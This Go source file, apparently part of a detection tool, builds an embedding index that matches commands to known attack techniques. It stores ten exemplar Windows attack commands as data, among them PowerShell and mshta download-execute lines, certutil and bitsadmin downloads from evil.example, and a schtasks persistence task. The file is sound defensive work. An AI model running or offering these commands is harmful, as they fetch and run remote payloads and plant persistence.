package ml

// Optional semantic neighbor index. When enabled, verdicts that were not
// resolved by a short-circuit are annotated with the nearest known attack
// technique by embedding similarity. The annotation is advisory context for
// the analyst; it never changes a label.

import (
	"context"
	"fmt"
	"strings"
	"sync"

	"github.com/knights-analytics/hugot"
	chromem "github.com/philippgille/chromem-go"
)

// TechniqueExemplar is one known-bad command seeded into the index.
type TechniqueExemplar struct {
	Text      string
	Technique string
}

// defaultExemplars mirrors the techniques the malicious rule tier encodes,
// phrased as concrete commands so paraphrased variants land nearby.
var defaultExemplars = []TechniqueExemplar{
	{"powershell.exe -NoP -W Hidden -EncodedCommand JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAA=", "PowerShell Encoded Payload"},
	{"powershell -c \"iwr http://evil.example/stage.ps1 | iex\"", "IEX Download-Execute"},
	{"certutil.exe -urlcache -split -f http://evil.example/payload.exe C:\\Temp\\payload.exe", "Certutil Download"},
	{"bitsadmin /transfer job /download /priority high http://evil.example/a.exe C:\\Temp\\a.exe", "BITSAdmin Download"},
	{"mshta.exe javascript:a=GetObject(\"script:http://evil.example/x.sct\").Exec();close();", "MSHTA JavaScript Eval"},
	{"rundll32.exe url.dll,FileProtocolHandler http://evil.example/drop.hta", "Rundll32 URL Handler"},
	{"curl -o C:\\Users\\Public\\update.exe http://evil.example/update.exe", "Curl/Wget Download Script/Binary"},
	{"Invoke-WebRequest http://evil.example/tool.ps1 -OutFile C:\\Temp\\tool.ps1", "Invoke-WebRequest/iwr OutFile"},
	{"regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll", "Regsvr32 Remote Scriptlet"},
	{"schtasks /create /tn Updater /tr C:\\Temp\\payload.exe /sc minute /mo 5", "SCHTASKS Create/Change/Delete/Run"},
}

// Neighbor is the nearest known technique for a query.
type Neighbor struct {
	Technique  string  `json:"technique"`
	Exemplar   string  `json:"exemplar"`
	Similarity float32 `json:"similarity"`
}

// SemanticIndex wraps a chromem-go collection of technique exemplars.
type SemanticIndex struct {
	db         *chromem.DB
	collection *chromem.Collection
	mu         sync.RWMutex
	ready      bool
}

// NewSemanticIndex creates an empty index backed by the given embedding
// function.
func NewSemanticIndex(embed chromem.EmbeddingFunc) (*SemanticIndex, error) {
	if embed == nil {
		return nil, fmt.Errorf("embedding function is nil")
	}
	db := chromem.NewDB()
	collection, err := db.CreateCollection("command_techniques", nil, embed)
	if err != nil {
		return nil, fmt.Errorf("create collection: %w", err)
	}
	return &SemanticIndex{db: db, collection: collection}, nil
}

// Seed loads exemplars into the index. Pass nil to use the built-in set.
func (si *SemanticIndex) Seed(ctx context.Context, exemplars []TechniqueExemplar) error {
	si.mu.Lock()
	defer si.mu.Unlock()

	if exemplars == nil {
		exemplars = defaultExemplars
	}
	docs := make([]chromem.Document, len(exemplars))
	for i, e := range exemplars {
		docs[i] = chromem.Document{
			ID:       fmt.Sprintf("exemplar_%d", i),
			Content:  e.Text,
			Metadata: map[string]string{"technique": e.Technique},
		}
	}
	if err := si.collection.AddDocuments(ctx, docs, 1); err != nil {
		return fmt.Errorf("seed exemplars: %w", err)
	}
	si.ready = true
	return nil
}

// IsReady reports whether the index has been seeded.
func (si *SemanticIndex) IsReady() bool {
	si.mu.RLock()
	defer si.mu.RUnlock()
	return si.ready
}

// Nearest returns the closest known technique for a command.
func (si *SemanticIndex) Nearest(ctx context.Context, cmd string) (*Neighbor, error) {
	si.mu.RLock()
	defer si.mu.RUnlock()

	if !si.ready {
		return nil, fmt.Errorf("semantic index not seeded")
	}

	results, err := si.collection.Query(ctx, strings.ToLower(cmd), 1, nil, nil)
	if err != nil {
		return nil, fmt.Errorf("query index: %w", err)
	}
	if len(results) == 0 {
		return nil, nil
	}
	best := results[0]
	return &Neighbor{
		Technique:  best.Metadata["technique"],
		Exemplar:   best.Content,
		Similarity: best.Similarity,
	}, nil
}

// FeatureEmbedder builds a chromem embedding function on the provider's
// shared Hugot session using a feature-extraction model (e.g. a MiniLM
// directory).
func (p *Provider) FeatureEmbedder(modelPath string) (chromem.EmbeddingFunc, error) {
	session, err := p.getSession()
	if err != nil {
		return nil, err
	}
	pipe, err := hugot.NewPipeline(session, hugot.FeatureExtractionConfig{
		ModelPath: modelPath,
		Name:      "semantic-embedder",
	})
	if err != nil {
		return nil, fmt.Errorf("%w: embedding model at %s: %v", ErrModelUnavailable, modelPath, err)
	}

	return func(ctx context.Context, text string) ([]float32, error) {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
		out, err := pipe.RunPipeline([]string{text})
		if err != nil {
			return nil, fmt.Errorf("embed text: %w", err)
		}
		if len(out.Embeddings) == 0 {
			return nil, fmt.Errorf("embedder returned no vectors")
		}
		return out.Embeddings[0], nil
	}, nil
}
